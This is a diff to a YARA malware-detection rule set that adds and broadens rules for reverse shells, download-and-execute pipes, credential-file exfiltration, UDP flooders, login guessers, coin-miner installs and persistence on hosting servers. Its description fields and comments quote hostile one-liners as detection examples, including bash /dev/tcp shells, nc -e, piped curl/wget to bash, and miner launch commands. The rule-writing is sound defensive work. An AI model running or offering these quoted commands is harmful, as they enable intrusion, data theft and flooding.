@@ -93,10 +93,16 @@ private rule hs_crontab_text
         $v2 = "SHELL=" ascii
         $v3 = "PATH=" ascii
     condition:
-        extension == "" and filesize < 64KB and
-        (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or
-         (uint8(0) >= 0x30 and uint8(0) <= 0x39) or $v1 at 0 or $v2 at 0 or $v3 at 0) and
-        ($at or $s1 or $s2)
+        filesize < 64KB and ($at or $s1 or $s2) and (
+        (extension == "" and
+         (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or
+          (uint8(0) >= 0x30 and uint8(0) <= 0x39) or $v1 at 0 or $v2 at 0 or $v3 at 0)) or
+        /* (train8) a crontab kept as crontab.txt (installed with `crontab
+           crontab.txt`): a job or a variable on its first line, not a comment
+           (a README.txt may start with one) */
+        (extension == "txt" and
+         (uint8(0) == 0x40 or uint8(0) == 0x2a or (uint8(0) >= 0x30 and uint8(0) <= 0x39) or
+          $v1 at 0 or $v2 at 0 or $v3 at 0)))
 }
 
 /* Text meant to be read, not run: documentation formats and web assets,
@@ -130,7 +136,7 @@ private rule hs_doc_file
             or not $php and not $php2 and (
             extension matches /^(md|markdown|mkd|rst|adoc|asciidoc|html?|xhtml|js|mjs|cjs|jsx|ts|tsx|json|css|scss|less|xml|svg|po|pot|pod|tex|[1-9]|man|ya?ml|csv|ipynb|vue|rtf|org)$/
             or any of ($f1, $f2, $f3, $f4, $f6, $f7, $f8, $f9, $f10, $f11, $f12)
-            or (extension == "txt" and not hs_lang_perl and not hs_lang_python)
+            or (extension == "txt" and not hs_lang_perl and not hs_lang_python and not hs_crontab_text)
             or (extension == "" and $f5 and not hs_lang_perl and not hs_lang_python and
                 not hs_crontab_text)
         ))
@@ -154,7 +160,7 @@ rule bot_revshell_dev_tcp : bot
         description = "Shell wired to a TCP/UDP connection through bash's /dev/tcp pseudo-device"
         severity = "critical"
         technique = "bash -i >& /dev/tcp/H/P 0>&1; exec N<>/dev/tcp/H/P with sh <&N or a read loop on N"
-        seen = "pre"
+        seen = "pre,train9"
     strings:
         // stdin of the shell duplicated from the connection (0>&1, 0<&1)
         $a1 = /\/dev\/(tcp|udp)\/[^\/\s"'`]{1,100}\/[^\s"'`;|&<>]{1,12}\s{0,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
@@ -173,6 +179,8 @@ rule bot_revshell_dev_tcp : bot
         $u2 = /\bread\s{1,4}(-r\s{1,4})?\w{1,20}\s{0,4}0?<\s{0,2}&\s{0,2}[0-9]{1,4}\b/
         $u3 = /\bdo\s{1,4}(eval\s{1,4})?["']?\$\{?\w{1,20}\}?["']?\s[^\n]{0,30}>\s{0,2}&\s{0,2}[0-9]{1,4}/
         $u4 = /<\s{0,2}&\s{0,2}[0-9]{1,4}\s{0,4}\|\s{0,4}while\s{1,4}read\b/
+        // (train9) bash's read -u N: while read -r -u 3 c; do bash -c "$c" >&3; done
+        $u5 = /\bread\s{1,4}(-[a-z]{1,3}\s{1,4}){0,3}-u\s{0,2}[0-9]{1,4}\s/
         // an audit script searching files for the idiom
         $g = /\b(grep|egrep|fgrep|rg|ack|ag)\s[^\n]{0,60}\/dev\/(tcp|udp)/
     condition:
@@ -186,7 +194,7 @@ rule bot_revshell_netcat_pipe : bot
         description = "Shell served over netcat/telnet/openssl: nc -e /bin/sh, or a shell piped to and from the connection"
         severity = "critical"
         technique = "nc -e/-c sh; mkfifo/mknod pipe: cat F | sh -i | nc H P > F; nc H P | sh; telnet H P | sh | telnet H P2"
-        seen = "pre"
+        seen = "pre,train9"
     strings:
         $e1 = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
         $e2 = /\b(nc|ncat|netcat|nc\.traditional)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?\$\{?SHELL\b/
@@ -197,6 +205,8 @@ rule bot_revshell_netcat_pipe : bot
         // an interactive shell's output goes into the connection
         $p3 = /\b(ba|z|k|da)?sh -i\b[^\n|]{0,40}\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
         // a shell fed from a named pipe, piped into the connection
+        // (train9) script(1) giving the shell a pty: cat F | script -qc /bin/bash /dev/null | nc H P > F
+        $p5 = /\bscript\s{1,4}(-[a-z]{1,3}\s{1,4}){0,2}-[a-z]{0,3}c\s{1,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b[^\n|]{0,40}\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
         $p4 = /(\/bin\/|\bbusybox\s{1,4})(ba|z|k|da)?sh (-i )?0?<\s{0,4}[^\s|;&]{1,60}\s{0,4}(2>&1\s{0,4})?\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
     condition:
         filesize < 2MB and not hs_doc_file and any of them
@@ -1117,6 +1127,8 @@ rule bot_fetch_pipe_interpreter : bot
         $p3 = /\beval ["']?(\$\(|`)\s{0,2}(curl|wget|fetch)\s[^\n)`]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
         $p4 = /\b(source|\.|bash|sh|zsh) <\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
         $p5 = /\b(perl|python[0-9.]{0,4}|php) - ?< ?<\(\s{0,2}(curl|wget)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
+        // (train9) a group of fallbacks piped as one: { wget -qO- U || curl -s U; } | bash
+        $p6 = /[{(]\s{0,4}(curl|wget|fetch)\s[^\n}]{0,200}(http|s?ftp):\/\/[^\n}]{0,200}\|\|\s{0,4}(curl|wget|fetch)\s[^\n}]{0,200}[})]\s{0,4}\|\s{0,4}(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
         // the URL kept in a variable
         $v1 = /\b(curl|wget|fetch)\s[^\n|;&]{0,60}\s["']?\$\{?\w{1,30}\}?["']?\s{0,4}\|\s{0,4}(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
         $v2 = /\b(sh|bash|zsh|ksh|dash|eval)( -c)? ["']?\$\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,60}\s["']?\$\{?\w{1,30}\}?["']?\s{0,4}\)/
@@ -1356,23 +1368,25 @@ rule bot_udp_flood_loop : bot
         description = "UDP flooder: datagrams sent in a loop until a deadline to a target taken from argv or the request"
         severity = "high"
         technique = "$end = time() + $_GET['time']; while (time() < $end) fwrite(fsockopen('udp://'.$h, rand()), $pk); Perl SOCK_DGRAM send until time + $secs; Python sendto until time.time() + int(argv[3])"
-        seen = "none"
+        seen = "none,train9"
     strings:
         $d1 = /udp:\/\/["'$.{]/
         $d2 = "SOCK_DGRAM" ascii
         $d3 = "SOL_UDP" ascii
         $d4 = /Proto\s{0,4}=>\s{0,4}['"]udp['"]/
         $d5 = /getprotobyname\s{0,2}\(\s{0,2}['"]udp['"]/
+        // (train9) Ruby
+        $d6 = "UDPSocket.new" ascii
         // the target or the duration from outside
-        $in = /\$_(GET|POST|REQUEST|COOKIE)\b|\$argv\s{0,2}\[|\bsys\.argv\b|@ARGV|\$ARGV\s{0,2}\[|\bshift\s{0,2}(;|\|\||\)|or\b)|\binput\s{0,2}\(\s{0,2}['"]|\bargparse\b/
+        $in = /\$_(GET|POST|REQUEST|COOKIE)\b|\$argv\s{0,2}\[|\bsys\.argv\b|@ARGV|\$ARGV\s{0,2}\[|\bshift\s{0,2}(;|\|\||\)|or\b)|\binput\s{0,2}\(\s{0,2}['"]|\bargparse\b|\bARGV\s{0,2}\[/
         // the deadline: now + a duration, or now - start compared with one
-        $dl1 = /\btime\s{0,2}(\(\s{0,2}\))?\s{0,4}\+\s{0,4}[$(a-zA-Z0-9]/
+        $dl1 = /\b(time\s{0,2}(\(\s{0,2}\))?|Time\.now)\s{0,4}\+\s{0,4}[$(a-zA-Z0-9]/
         $dl2 = /\btime\s{0,2}\(\s{0,2}\)\s{0,4}-\s{0,4}\$?[a-zA-Z_]\w{0,30}\s{0,4}<\s{0,4}[$(a-zA-Z0-9]/
         $lp = /\b(while|for|until)\b\s{0,2}[(\w]/
         $sd = /\b(fwrite|fputs|socket_sendto|sendto|send)\s{0,2}\(|->\s{0,2}send\s{0,2}\(|\.send(to)?\s{0,2}\(/
         $sl = /\b(u?sleep|time\.sleep|select)\s{0,2}\(|\bsleep\s{1,4}[0-9$]/
         // round 7: Perl's statement modifier: $s->send($pk) while time < $end;
-        $pf = /\bsend\s{0,2}\([^\n;]{0,200}\)\s{0,2}(while|until)\s{1,4}(time|\$\w{1,30}\s{0,2}[<>])/
+        $pf = /\bsend\s{0,2}\([^\n;]{0,200}\)\s{0,2}(while|until)\s{1,4}(time|Time\.now|\$\w{1,30}\s{0,2}[<>])/
     condition:
         filesize < 1MB and not hs_doc_file and any of ($d*) and $in and ( ($pf and $dl1) or
             for any i in (1..#dl1) : ( for any j in (1..#lp) : ( @lp[j] > @dl1[i] and @lp[j] < @dl1[i] + 400 and
@@ -2361,7 +2375,7 @@ rule bot_credential_files_exfil : bot
         description = "Credential stealer script: key and token files (~/.ssh/id_*, ~/.aws/credentials, ~/.npmrc, .git-credentials, wp-config.php ...) read and posted out"
         severity = "high"
         technique = "for f in ['.npmrc', '.aws/credentials', '.ssh/id_rsa']: read + https.request POST / requests.post / discord webhook / curl -F document=@x api.telegram.org"
-        seen = "none"
+        seen = "none,train9"
     strings:
         // a private key (not id_rsa.pub, which setup scripts upload to a forge on purpose)
         $c1 = /\.ssh\/(id_[a-z0-9]{2,10}['"\s),;]|id_\*|\*)|\/home\d?\/\*\/\.ssh\b/
@@ -2374,6 +2388,8 @@ rule bot_credential_files_exfil : bot
         $c8 = /\/home\d?\/\*\/[^\s'"]{0,40}(wp-config\.php|\.env\b)/
         // the whole environment serialised ("env: process.env" alone is how every
         // spawn passes it on: a release script reading ~/.npmrc was high)
+        // (train9) a walk over every home with a key pattern inside: for d in /home/* /root
+        $c10 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}\/home\d?\/\*[^\n]{0,40}\n[^\n]{0,200}\.ssh\/id_/
         $c9 = /\bJSON\.stringify\s{0,2}\([^\n]{0,60}process\.env\b|\bjson\.dumps\s{0,2}\(\s{0,2}dict\s{0,2}\(\s{0,2}os\.environ\s{0,2}\)/
         $x1 = "api.telegram.org" ascii
         $x2 = /discord(app)?\.com\/api\/webhooks\/|hooks\.slack\.com\/services\//
@@ -3298,13 +3314,18 @@ rule bot_systemd_unit_fetch_enable : bot
         description = "Script downloading a systemd unit into a unit directory and enabling it (user persistence)"
         severity = "high"
         technique = "curl -fsSL URL -o ~/.config/systemd/user/x.service; systemctl --user enable --now x.service; loginctl enable-linger"
-        seen = "train7"
+        seen = "train7,train9"
     strings:
         $f = /\b(curl|wget|fetch)\s[^\n]{0,200}(-o|-O|--output(-document)?[= ])\s{0,4}["']?[^\s"']{0,100}\.(service|timer)\b|\b(urlretrieve|getstore|mirror|copy)\s{0,2}\([^\n]{0,200}systemd\/(user|system)\//
         // a user unit (an admin installing a system service from a vendor is not that)
         $e = /\bsystemctl\s{1,4}--user\s{1,4}(enable|start|daemon-reload)\b|\bloginctl\s{1,4}enable-linger\b/
+        // (train9) the program fetched from plain HTTP into the home and made executable, its
+        // user unit enabled and lingering (the unit written elsewhere)
+        $fp = /\b(curl|wget)\s[^\n]{0,100}http:\/\/[^\n]{0,100}(-o|-O)\s{0,4}["']?(~|\$HOME|\$\{HOME\}|%h)\/[^\s"']{1,100}[^\n]{0,40}&&\s{0,4}chmod\s{1,4}\+?[0-7]{0,4}x?/
+        $en = /\bsystemctl\s{1,4}--user\s{1,4}enable\b/
+        $lg = /\bloginctl\s{1,4}enable-linger\b/
     condition:
-        filesize < 256KB and not hs_doc_file and $f and $e
+        filesize < 256KB and not hs_doc_file and (($f and $e) or ($fp and $en and $lg))
 }
 
 /* A crontab line watching over a hidden program: started again when a
@@ -3417,4 +3438,274 @@ rule bot_tool_wrapper_hiding : bot
         $ld2 = /\.(bashrc|bash_profile|profile|zshrc)['"][^\n]{0,40}['"]a['"][^\n]{0,200}\n[^\n]{0,200}LD_PRELOAD=/
     condition:
         filesize < 256KB and not hs_doc_file and (($tl and $gv) or $ld or $ld2)
+}
+
+/* ---- train9 round (branch fix9-bot, seen = "train9"): written from the
+ * misses of train9 seeds 2 and 3 (and train8's bot category); remote
+ * command loops in Python/Perl/Ruby/Node are script_flow.c's. */
+
+/* Lua bots: LuaSocket (or its HTTP module) and what came back run as a
+ * command. bot_revshell_lua asks for a plain :receive() and a bare variable
+ * in io.popen; bots concatenate (io.popen(cmd .. " 2>&1")), cut a prefix
+ * (data:sub(4)), read UDP (receivefrom) or poll HTTP (http.request). A tmux
+ * status script runs its own literals through io.popen and opens no socket. */
+rule bot_lua_socket_exec : bot
+{
+    meta:
+        description = "Lua bot: what a LuaSocket connection, UDP datagram or HTTP request returned run with io.popen/os.execute"
+        severity = "high"
+        technique = "local l = c:receive('*l'); io.popen(l:match(...) .. ' 2>&1') | u:receivefrom(); io.popen(data:sub(4)) | body = http.request(URL); os.execute(body .. ' &')"
+        seen = "train9"
+    strings:
+        $rq = /\brequire\s{0,2}\(?\s{0,2}["']socket(\.http|\.url)?["']/
+        $rv = /:\s{0,2}receive(from)?\s{0,2}\(|\bhttps?\.request\s{0,2}\(/
+        $x = /\b(io\.popen|os\.execute)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,30}(:\w{1,10}\s{0,2}\([^()\n]{0,20}\))?\s{0,2}(\.\.|[,)])/
+    condition:
+        filesize < 1MB and not hs_doc_file and $rq and
+        for any i in (1..#rv) : ( $x in (@rv[i] .. @rv[i] + 400) )
+}
+
+/* Tcl bots outside eggdrop: a raw `socket` read with gets and the line (or
+ * a part of it) run with exec or a pipe open within a few lines. An eggdrop
+ * script talks to its bot's bind/putserv API (bot_tcl_eggdrop_exec). */
+rule bot_tcl_socket_exec : bot
+{
+    meta:
+        description = "Tcl bot: lines read from a raw socket run as commands (exec sh -c $x, exec {*}$x, open |$x)"
+        severity = "high"
+        technique = "set s [socket H 6667]; while {[gets $s line] >= 0} { regexp {...} $line -> cmd; catch {exec /bin/sh -c $cmd} r; puts $s $r }"
+        seen = "train9"
+    strings:
+        $sk = /\[\s{0,2}socket\s{1,4}(-async\s{1,4}|-server\s{1,4}\S{1,40}\s{1,4})?[$\w"]/
+        $g = /\b(gets|read) \$\w{1,30}(\s{1,4}\w{1,30})?\s{0,2}\]/
+        $x = /\bexec (--\s{1,4})?(\{\*\}\s{0,2}\$|(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh\s{1,4}-c\s{1,4}\$|\$)|\bopen "\|\s{0,2}\$|\bopen \[\s{0,2}concat\s{1,4}"?\|/
+    condition:
+        filesize < 1MB and not hs_doc_file and $sk and
+        for any i in (1..#g) : ( $x in (@g[i] .. @g[i] + 500) )
+}
+
+/* Login guessing against a web login form (cPanel/WHM's login_only, a
+ * WordPress wp-login.php or xmlrpc.php): a password field filled from a
+ * variable in a loop, and the hits appended to a file. A monitor logs in
+ * with its one configured password and alerts; it keeps no list of hits. */
+rule bot_form_login_guesser : bot hacktool
+{
+    meta:
+        description = "Web login guesser: a form's password field filled from a word list in a loop, posted to cPanel/WHM or WordPress logins, hits appended to a file"
+        severity = "high"
+        technique = "while read pass; do curl -d \"user=$u&pass=$pass\" https://$h:2083/login/?login_only=1 | grep security_token && echo ... >> hits; done < p.txt | curl_multi over file(t.txt) x file(p.txt) | requests.post(url, data={'user': u, 'pass': p}) per thread"
+        seen = "train9,train8"
+    strings:
+        $lg = /\/login\/\?login_only=1|\bwp-login\.php\b|\bxmlrpc\.php\b|:20(82|83|86|87|95|96)\/|\bwp\.getUsersBlogs\b/
+        // the password field from a variable: shell/query text, PHP array, Python dict, Perl hash
+        $pw1 = /\b(pass|pwd|passwd|password)=\$\{?\w{1,30}/
+        $pw2 = /['"](pass|pwd|passwd|password)['"]\s{0,2}(=>|:)\s{0,2}(\$\w{1,30}|[a-zA-Z_]\w{0,30}\s{0,2}[,})\]])/
+        $pw3 = /\b(pass|pwd|passwd|password)\s{0,2}=>\s{0,2}\$\w{1,30}/
+        $pw4 = /-u\s{1,4}["'][^"'\s:]{1,30}:\$\{?\w{1,30}/
+        // a list walked
+        // (literals: a regex on foreach/for would be tried on every PHP loop)
+        $l1 = "while read" ascii
+        $l2 = "foreach" ascii
+        $l3 = "for my $" ascii
+        $l4 = "threading.Thread" ascii
+        $l5 = "; do" ascii
+        // the hits kept
+        $h1 = "FILE_APPEND" ascii
+        $h2 = ">> " ascii
+        $h3 = "'>>'" ascii
+        $h4 = "\">>\"" ascii
+        $h5 = ", 'a')" ascii
+        $h6 = ", \"a\")" ascii
+    condition:
+        filesize < 512KB and not hs_doc_file and $lg and any of ($pw*) and any of ($l*) and any of ($h*)
+}
+
+/* A command queue through files: an endless loop polling a file or
+ * directory in a hidden temp path (/tmp/.x, /var/tmp/.x/q, /dev/shm/.x)
+ * that a web page writes, running what is in it and emptying or deleting
+ * it. A spool worker of an application keeps its queue under its own tree
+ * and runs its own program on the job, not the job's text. */
+rule bot_file_drop_command_loop : bot
+{
+    meta:
+        description = "Command loop over a dropped file: a hidden temp file or queue dir read in an endless loop, its text run as commands, the file emptied or deleted"
+        severity = "high"
+        technique = "while :; do [ -s $D/in ] && bash $D/in > $D/out; : > $D/in; sleep 3; done | while (1) { @c = <$h>; unlink $f; qx{$c} } | while True: cmd = b64decode(open(p).read()); os.unlink(p); subprocess.run(cmd, shell=True)"
+        seen = "train9"
+    strings:
+        // (literals: the words are common in PHP, regexes on them were costly)
+        $hd1 = "/tmp/." ascii
+        $hd2 = "/dev/shm/." ascii
+        $lp1 = "while (1)" ascii
+        $lp2 = "while(1)" ascii
+        $lp3 = "while True:" ascii
+        $lp4 = "while :;" ascii
+        $lp5 = "while true;" ascii
+        $lp6 = "for (;;)" ascii
+        $sl = "sleep" ascii
+        $x1 = /\bqx\s{0,2}[{(\/|]\s{0,2}\$\w|\bsystem\s{0,2}\(?\s{0,2}\$\w/
+        $x2 = /\bsubprocess\.\w{1,16}\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2},[^\n)]{0,80}shell\s{0,2}=\s{0,2}True|\bos\.(system|popen)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}\)/
+        $x3 = /sh ["']?\$\{?\w{1,30}\}?\/[\w.-]{1,40}["']?\s{0,4}(>|2>|<|;|\n|&)/
+        $rm1 = "unlink" ascii
+        $rm2 = "os.remove" ascii
+        $rm3 = ": >" ascii
+        $rm4 = "rm -f $" ascii
+        $rm5 = "truncate" ascii
+    condition:
+        filesize < 256KB and not hs_doc_file and any of ($hd*) and any of ($lp*) and $sl and any of ($x*) and any of ($rm*)
+}
+
+/* A download started under a daemon's name: bash's exec -a (or an argv0
+ * wrapper) giving the fetched or hidden program a kernel-thread or server
+ * name. bot_process_masquerade reads Perl/Python's $0. */
+rule bot_exec_argv0_masquerade : bot
+{
+    meta:
+        description = "Fetched or hidden program started with a faked process name (exec -a '[kworker...]' / 'php-fpm: pool' ./.x)"
+        severity = "high"
+        technique = "curl -s URL -o .b && exec -a '[kworker/u8:2]' ./.b -c H:443"
+        seen = "train9"
+    strings:
+        $ea = /\bexec -a\s{1,4}["']?(\[|[\w\/.-]{0,30}(httpd|sshd|php-fpm|nginx|apache2|crond?|kworker|kthreadd|systemd|dbus-daemon|rsyslogd|mysqld|postfix|exim|dovecot|kswapd|-bash))[^\n]{0,80}\s(\.{1,2}\/\.|["']?(\/tmp|\/var\/tmp|\/dev\/shm|\$HOME|~)\/[^\n\s]{0,60}\/\.|["']?\.\/\.)/
+        $f = /\b(curl|wget)\s/
+    condition:
+        filesize < 256KB and not hs_doc_file and $ea and $f
+}
+
+/* A proxy server in a script: it listens, parses a SOCKS4 request (the
+ * 8-byte header unpacked, VN 4 / CD 1, answered 0x5a) or an HTTP CONNECT
+ * line, connects where the client asked and relays both ways through a
+ * select loop. bot_http_connect_proxy (medium) asked for Python or Perl and
+ * no SOCKS; ssh -D forwards through an SSH login, a dev server answers
+ * its own pages. */
+rule bot_proxy_relay_server : bot
+{
+    meta:
+        description = "Script proxy server: SOCKS4 or CONNECT request parsed, the asked host connected, both sides relayed in a select loop"
+        severity = "high"
+        technique = "accept; unpack('CCnN', hdr) / struct.unpack('>BBH') / preg_match('/^CONNECT (h):(p)/'); connect(dst); send 0x5a / '200 Connection established'; select/stream_select relay"
+        seen = "train9"
+    strings:
+        $ac1 = "->accept" ascii
+        $ac2 = ".accept(" ascii
+        $ac3 = "socket_accept(" ascii
+        $ac4 = "TCPServer" ascii
+        $ac5 = "BaseRequestHandler" ascii
+        $h1 = /\bunpack\s{0,2}\(\s{0,2}['"](>|!)?(CCnN|CCn|BBH|BBHI|BBH4s)['"]/
+        $h2 = /['"\/{]\^?CONNECT\s{1,2}[(\[\\]|(==|\beq)\s{0,2}b?['"]CONNECT['"]|\bstartswith\s{0,2}\(\s{0,2}b?['"]CONNECT\b/
+        $rp1 = "0, 90" ascii
+        $rp3 = "0,90" ascii
+        $rp4 = "\\x00\\x5a" ascii
+        $rp5 = "\\x5a\\x00" ascii
+        $rp6 = "0x5a" ascii
+        $rp2 = /200 Connection established/ nocase
+        $up = /\bstream_socket_client\s{0,2}\(|\bcreate_connection\s{0,2}\(|PeerAddr\s{0,2}=>|\.connect\s{0,2}\(|\bsocket_connect\s{0,2}\(|\bfsockopen\s{0,2}\(/
+        $sel = /\bselect\.select\s{0,2}\(|\bIO::Select\b|\bstream_select\s{0,2}\(|\bsocket_select\s{0,2}\(|->\s{0,2}can_read\b/
+    condition:
+        filesize < 200KB and not hs_doc_file and any of ($ac*) and any of ($h*) and any of ($rp*) and $up and $sel
+}
+
+/* A file put back in the docroot: an endless loop that checks whether a
+ * file is there (or still carries its mark), fetches it again into place
+ * when not, makes it read-only and/or back-dates it. A deploy script
+ * fetches once; a monitor alerts instead of rewriting. */
+rule bot_webroot_reinstaller_loop : bot
+{
+    meta:
+        description = "Reinstaller: an endless loop fetching a docroot file back when it is removed or changed, made read-only or back-dated"
+        severity = "high"
+        technique = "while true; do if [ ! -f \"$T\" ] || ! grep -q MARK \"$T\"; then (curl -s U || wget -qO- U) > \"$T\"; chmod 444 \"$T\"; touch -r version.php \"$T\"; fi; sleep 300; done"
+        seen = "train8"
+    strings:
+        $lp1 = "while true" ascii
+        $lp2 = "while :" ascii
+        $lp3 = "until false" ascii
+        $lp4 = "while [ 1 ]" ascii
+        $sl = /\bsleep\s{1,4}\d/
+        $ck1 = "[ ! -f" ascii
+        $ck2 = "[ ! -s" ascii
+        $ck3 = "[ ! -e" ascii
+        $ck4 = "! grep -q" ascii
+        $fe = /\b(curl|wget)\s[^\n]{0,200}(>|-o|-O)\s{0,2}["']?\$\{?\w{1,30}/
+        $ro = /\bchmod\s{1,4}(0?4[0-4]4|0?400|0?555|a-w|-w|u-w)\s|\btouch\s{1,4}-r\s/
+        $web = /public_html|wp-includes|wp-content|wp-admin|httpdocs|htdocs|\/www\//
+    condition:
+        filesize < 128KB and not hs_doc_file and any of ($lp*) and $sl and any of ($ck*) and $fe and $ro and $web
+}
+
+/* A shell flooder: random bytes written to bash's /dev/udp (or /dev/tcp)
+ * device of a target in variables, many at once in a loop. A port check
+ * opens /dev/tcp/host/port once and writes nothing random. */
+rule bot_shell_dev_udp_flood : bot
+{
+    meta:
+        description = "Shell flooder: /dev/urandom written to /dev/udp/$host/$port in a loop, in the background"
+        severity = "high"
+        technique = "while [ $SECONDS -lt $end ]; do for i in $(seq 1 64); do head -c 1400 /dev/urandom > /dev/udp/$1/$2 & done; wait; done"
+        seen = "train9"
+    strings:
+        $w = /\/dev\/urandom[^\n]{0,60}>\s{0,2}\/dev\/(udp|tcp)\/["']?\$/
+        $lp1 = "done" ascii
+    condition:
+        filesize < 128KB and not hs_doc_file and $w and $lp1
+}
+
+/* A miner's config file where the miner was unpacked: an xmrig-style JSON
+ * with a pool list whose user is a wallet-length address, and the miner's
+ * own keys (donate-level, max-threads-hint, randomx). A hosting account has
+ * no business with one. */
+rule bot_miner_config_file : bot
+{
+    meta:
+        description = "Coin miner configuration (xmrig-style pools with a wallet address and miner keys)"
+        severity = "high"
+        technique = "config.json: {\"cpu\": {\"max-threads-hint\": 100}, \"pools\": [{\"url\": \"pool:3333\", \"user\": \"4...95 chars\"}], \"donate-level\": 0}"
+        seen = "train9"
+    strings:
+        $po = /"pools"\s{0,2}:\s{0,2}\[\s{0,16}\{[^\]]{0,300}"url"\s{0,2}:\s{0,2}"[\w.+\/:-]{1,80}:[0-9]{2,5}"/
+        $u = /"user"\s{0,2}:\s{0,2}"[0-9A-Za-z]{60}/
+        $k = /["'](donate-level|max-threads-hint|randomx|donate-over-proxy|cpu-priority)["']/
+    condition:
+        filesize < 64KB and $po and $u and $k
+}
+
+/* A miner installed from an archive: fetched, unpacked, the binary renamed
+ * or its thread hint set from the CPU count, and started detached with the
+ * config beside it. bot_miner_launcher asks for the pool on the command
+ * line; here the pool is in the config. */
+rule bot_miner_archive_install : bot
+{
+    meta:
+        description = "Miner installer: an archive fetched and unpacked, started detached with its config.json, the miner renamed or its CPU use tuned"
+        severity = "high"
+        technique = "curl -o x.tgz U && tar xzf x.tgz; mv xmr* systemd-journald; nohup ./systemd-journald -c config.json & | urlretrieve(U); tarfile.open().extractall(); cfg['cpu']['max-threads-hint'] = ...; Popen([bin, '--config', cfg], start_new_session=True)"
+        seen = "train9"
+    strings:
+        $f = /\b(curl|wget|urlretrieve|urlopen|getstore)\b[^\n]{0,200}\.(tgz|tar\.gz|tar\.xz|zip)\b/
+        $t = /\btar -?[a-zA-Z]{0,4}x|\btarfile\.open\b|\bextractall\s{0,2}\(|\bunzip |\bPharData\b|\bArchive::Tar\b/
+        $c = /(\s-c\s{1,4}|--config[= ]|['"]--config['"]\s{0,2},\s{0,2}|['"]-c['"]\s{0,2},\s{0,2})[^\n]{0,60}config\.json/
+        $m1 = /\bmv\s{1,4}["']?xmr/
+        $m2 = /max-threads-hint|donate-level|\bxmrig\b/
+        $d = /\bnohup\s|\bstart_new_session\s{0,2}=\s{0,2}True|\bsetsid\b|\bscreen\s{1,4}-dm|\bdisown\b|>\s{0,2}\/dev\/null\s{0,4}2>&1\s{0,4}&/
+    condition:
+        filesize < 256KB and not hs_doc_file and $f and $t and $c and any of ($m*) and $d
+}
+
+/* A PTY upgrade: the terminal joined raw to a TCP connection with socat
+ * (file:`tty`,raw,echo=0 tcp:H:P) falling back to a Python pty.spawn of a
+ * shell. An admin's notes quote it; a script that runs it is a session
+ * handed to someone. */
+rule bot_pty_upgrade_script : bot
+{
+    meta:
+        description = "Reverse-shell PTY upgrade in a script: socat raw tty to a TCP peer, stty raw -echo, python pty.spawn of a shell"
+        severity = "high"
+        technique = "stty raw -echo; socat file:`tty`,raw,echo=0 tcp:H:P || python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"
+        seen = "train9"
+    strings:
+        $s = /\bsocat\s{1,4}[^\n]{0,40}raw,echo=0[^\n]{0,100}\b(tcp[46]?|tcp-connect|openssl):/ nocase
+        $py = /\bpty\.spawn\s{0,2}\(\s{0,2}\\?["'](\/usr)?\/bin\/(ba|z|k|da)?sh/
+        $st = /\bstty\s{1,4}raw\s{1,4}-echo\b/
+    condition:
+        filesize < 64KB and not hs_doc_file and $s and ($py or $st)
 }
